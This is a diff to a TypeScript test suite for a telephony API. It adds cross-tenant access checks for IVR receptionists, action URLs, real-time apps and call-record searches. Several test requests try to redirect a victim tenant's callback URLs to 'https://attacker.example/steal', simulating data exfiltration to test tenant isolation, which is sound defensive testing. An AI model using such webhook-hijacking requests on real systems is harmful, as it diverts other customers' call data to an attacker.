@@ -29,10 +29,17 @@ interface Victim {
   readonly number: string;
   /** A live call record of the victim's. */
   readonly callId: string;
+  /** The DID hash of the victim's number. */
+  readonly numberHash: string;
   /** A webhook subscription of the victim's. */
   readonly webhookHash: string;
   /** An event of the victim's that was queued for that subscription. */
   readonly eventId: string;
+  /** A real-time app of the victim's. */
+  readonly appHash: string;
+  /** A receptionist of the victim's (seed 01 id) and one of its action URLs. */
+  readonly receptionistId: string;
+  readonly actionUrlId: string;
 }
 
 interface RouteCase {
@@ -47,9 +54,51 @@ interface RouteCase {
 const rpcNotFound: RouteCase['isNotFound'] = (response) =>
   response.statusCode === 200 && (response.json() as { error?: { code: number } }).error?.code === 110;
 
+/** A search by another tenant's object finds nothing, as one by an unknown object does. */
+const searchEmpty: RouteCase['isNotFound'] = (response) =>
+  response.statusCode === 200 && (response.json() as { total?: number }).total === 0;
+
 const SCENARIO = { name: 'taken over', script: ['hangup'] };
 
 export const OBJECT_ROUTES: readonly RouteCase[] = [
+  { method: 'GET', pattern: '/api/ivrs/:id', request: (v) => ({ url: `/api/ivrs/${v.receptionistId}` }) },
+  {
+    method: 'POST',
+    pattern: '/api/ivrs/:id',
+    request: (v) => ({ url: `/api/ivrs/${v.receptionistId}`, payload: { name: 'taken over' } }),
+  },
+  { method: 'DELETE', pattern: '/api/ivrs/:id', request: (v) => ({ url: `/api/ivrs/${v.receptionistId}` }) },
+  {
+    method: 'GET',
+    pattern: '/api/ivrs/:id/action_urls',
+    request: (v) => ({ url: `/api/ivrs/${v.receptionistId}/action_urls` }),
+  },
+  {
+    method: 'POST',
+    pattern: '/api/ivrs/:id/action_urls',
+    request: (v) => ({
+      url: `/api/ivrs/${v.receptionistId}/action_urls`,
+      payload: { enabled: true, type: 'CALLER', url: 'https://attacker.example/steal' },
+    }),
+  },
+  {
+    method: 'GET',
+    pattern: '/api/ivrs/:id/action_urls/:url_id',
+    request: (v) => ({ url: `/api/ivrs/${v.receptionistId}/action_urls/${v.actionUrlId}` }),
+  },
+  {
+    method: 'POST',
+    pattern: '/api/ivrs/:id/action_urls/:url_id',
+    request: (v) => ({
+      url: `/api/ivrs/${v.receptionistId}/action_urls/${v.actionUrlId}`,
+      payload: { url: 'https://attacker.example/steal' },
+    }),
+  },
+  {
+    method: 'DELETE',
+    pattern: '/api/ivrs/:id/action_urls/:url_id',
+    request: (v) => ({ url: `/api/ivrs/${v.receptionistId}/action_urls/${v.actionUrlId}` }),
+  },
   {
     method: 'GET',
     pattern: '/voice/ivr/1/scenarios/:id',
@@ -94,6 +143,24 @@ export const OBJECT_ROUTES: readonly RouteCase[] = [
     request: (v) => ({ url: `/voxgate/v1/webhooks/events/${v.eventId}/redeliver` }),
   },
   {
+    method: 'GET',
+    pattern: '/voxgate/v1/apps/:hash',
+    request: (v) => ({ url: `/voxgate/v1/apps/${v.appHash}` }),
+  },
+  {
+    method: 'PATCH',
+    pattern: '/voxgate/v1/apps/:hash',
+    request: (v) => ({
+      url: `/voxgate/v1/apps/${v.appHash}`,
+      payload: { params: { url: 'https://attacker.example/steal' } },
+    }),
+  },
+  {
+    method: 'DELETE',
+    pattern: '/voxgate/v1/apps/:hash',
+    request: (v) => ({ url: `/voxgate/v1/apps/${v.appHash}` }),
+  },
+  {
     method: 'PUT',
     pattern: '/voxgate/v1/numbers/:number',
     request: (v) => ({ url: `/voxgate/v1/numbers/${v.number}`, payload: { scenario_id: null } }),
@@ -102,6 +169,18 @@ export const OBJECT_ROUTES: readonly RouteCase[] = [
     method: 'GET',
     pattern: '/voxgate/v1/calls/:id',
     request: (v) => ({ url: `/voxgate/v1/calls/${v.callId}` }),
+  },
+  {
+    method: 'GET',
+    pattern: '/voxgate/v1/cdr',
+    request: (v) => ({ url: `/voxgate/v1/cdr?type=IN&did=${v.numberHash}` }),
+    isNotFound: searchEmpty,
+  },
+  {
+    method: 'GET',
+    pattern: '/voxgate/v1/cdr',
+    request: (v) => ({ url: `/voxgate/v1/cdr?type=IN&app=${v.scenarioId}` }),
+    isNotFound: searchEmpty,
   },
   {
     method: 'DELETE',
@@ -222,7 +301,7 @@ async function ownNumberAndCall(
   tenant: TenantFixture,
   number: string,
   scenarioId: string,
-): Promise<{ number: string; callId: string }> {
+): Promise<{ number: string; numberHash: string; callId: string }> {
   const added = await testApp.app.inject({
     method: 'POST',
     url: '/admin/numbers',
@@ -248,7 +327,7 @@ async function ownNumberAndCall(
     sipCallId: `victim-${number}`,
     startedAt: Date.now(),
   });
-  return { number, callId };
+  return { number, numberHash: added.json<{ hash: string }>().hash, callId };
 }
 
 async function victimOf(
@@ -267,7 +346,29 @@ async function victimOf(
     payload: { type: 'call.inbound_start', endpoint: 'https://victim.example/hooks' },
   });
   assert.equal(webhook.statusCode, 201, webhook.body);
+  const app = await testApp.app.inject({
+    method: 'POST',
+    url: '/voxgate/v1/apps',
+    headers: bearer(tenant.key),
+    payload: { name: 'victim app', package: 'REALTIME10', params: { url: 'https://victim.example/rt' } },
+  });
+  assert.equal(app.statusCode, 201, app.body);
   const numberAndCall = await ownNumberAndCall(testApp, tenant, number, scenarioId);
+  const receptionist = await testApp.app.inject({
+    method: 'POST',
+    url: '/api/ivrs',
+    headers: bearer(tenant.key),
+    payload: { name: 'victim desk', greeting: { text: 'Hello' }, options: { '1': scenarioId } },
+  });
+  assert.equal(receptionist.statusCode, 201, receptionist.body);
+  const receptionistId = receptionist.json<{ id: string }>().id;
+  const actionUrl = await testApp.app.inject({
+    method: 'POST',
+    url: `/api/ivrs/${receptionistId}/action_urls`,
+    headers: bearer(tenant.key),
+    payload: { name: 'victim hook', url: 'https://victim.example/dtmf' },
+  });
+  assert.equal(actionUrl.statusCode, 201, actionUrl.body);
   const event = await testApp.database.db
     .selectFrom('events')
     .select('id')
@@ -276,6 +377,9 @@ async function victimOf(
     .executeTakeFirstOrThrow();
   return {
     webhookHash: webhook.json<{ hash: string }>().hash,
+    appHash: app.json<{ hash: string }>().hash,
+    receptionistId,
+    actionUrlId: actionUrl.json<{ id: string }>().id,
     eventId: event.id,
     accountId: tenant.accountId,
     keyPrefix: key.prefix,
@@ -301,6 +405,13 @@ async function snapshot(testApp: TestApp, tenant: TenantFixture): Promise<string
     await read('/voxgate/v1/calls'),
     await read('/voxgate/v1/webhooks'),
     await read('/voxgate/v1/webhooks/logs'),
+    await read('/voxgate/v1/apps'),
+    await read('/api/ivrs'),
+    ...(await Promise.all(
+      (JSON.parse(await read('/api/ivrs')) as { id: string }[]).map((ivr) =>
+        read(`/api/ivrs/${ivr.id}/action_urls`),
+      ),
+    )),
   ]);
 }
 
